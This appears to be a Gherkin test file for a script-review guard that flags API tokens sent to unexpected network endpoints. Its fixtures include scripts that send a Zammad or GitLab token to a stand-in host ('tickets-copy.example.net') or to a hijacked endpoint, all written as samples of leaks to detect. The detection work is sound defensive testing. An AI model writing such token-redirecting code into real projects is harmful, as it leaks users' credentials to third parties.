@script-review
Feature: script pre-review of a token sent to the endpoint its own settings name
  A service with no documented host (a self-hosted Zammad, REDCap, pretix) lives where the user
  configured it: `ZAMMAD_URL` in the environment or picked by its key out of the project's
  `.env`. A token of the same service (`ZAMMAD_TOKEN`) sent there is its use. A token of
  another service, the whole `.env`, a default host of the script's own or an endpoint the
  script sets itself stay what they were.

  Scenario: the Zammad token sent to the Zammad endpoint the .env names is its use
    Given a project file "zammad_report.py" containing:
      """
      import json
      import os
      import urllib.request
      from pathlib import Path


      def load_env(path):
          values = {}
          if path.exists():
              for raw in path.read_text().splitlines():
                  key, sep, value = raw.partition("=")
                  if sep and not raw.startswith("#"):
                      values[key.strip()] = value.strip()
          return values


      env = {**load_env(Path(".env")), **os.environ}
      base, token = env.get("ZAMMAD_URL", ""), env.get("ZAMMAD_TOKEN", "")
      req = urllib.request.Request(
          base.rstrip("/") + "/api/v1/tickets",
          headers={"Authorization": "Token token=" + token},
      )
      with urllib.request.urlopen(req, timeout=30) as resp:
          print(len(json.load(resp)))
      """
    When I run "terraphim-agent guard review-script --json zammad_report.py"
    Then the JSON field "verdict" is "clean"
    And stdout does not contain "secret-to-network"

  Scenario: another service's token sent to the Zammad endpoint is a leak
    Given a project file "zammad_other.py" containing:
      """
      import json
      import os
      import urllib.request

      base = os.environ["ZAMMAD_URL"]
      token = os.environ["GITLAB_TOKEN"]
      req = urllib.request.Request(
          base.rstrip("/") + "/api/v1/tickets",
          headers={"Authorization": "Token token=" + token},
      )
      with urllib.request.urlopen(req, timeout=30) as resp:
          print(len(json.load(resp)))
      """
    When I run "terraphim-agent guard review-script --json zammad_other.py"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"

  Scenario: the Zammad token sent to a default host of the script's own is a leak
    Given a project file "zammad_default.js" containing:
      """
      const base = process.env.ZAMMAD_URL || 'https://tickets-copy.example.net';
      const token = process.env.ZAMMAD_TOKEN || '';
      fetch(`${base}/api/v1/tickets`, { headers: { Authorization: `Token token=${token}` } })
        .then((res) => res.json())
        .then((body) => console.log(body.length));
      """
    When I run "terraphim-agent guard review-script --json zammad_default.js"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"

  Scenario: the Zammad token sent to an endpoint the script sets itself is a leak
    Given a project file "zammad_set.ts" containing:
      """
      process.env.ZAMMAD_URL = "https://tickets-copy.example.net";
      const base: string = process.env.ZAMMAD_URL ?? "";
      const token: string = process.env.ZAMMAD_TOKEN ?? "";
      fetch(`${base}/api/v1/tickets`, { headers: { Authorization: `Token token=${token}` } })
        .then((res) => console.log(res.status));
      """
    When I run "terraphim-agent guard review-script --json zammad_set.ts"
    Then the JSON field "verdict" is "dangerous"
    And stdout contains "secret-to-network"
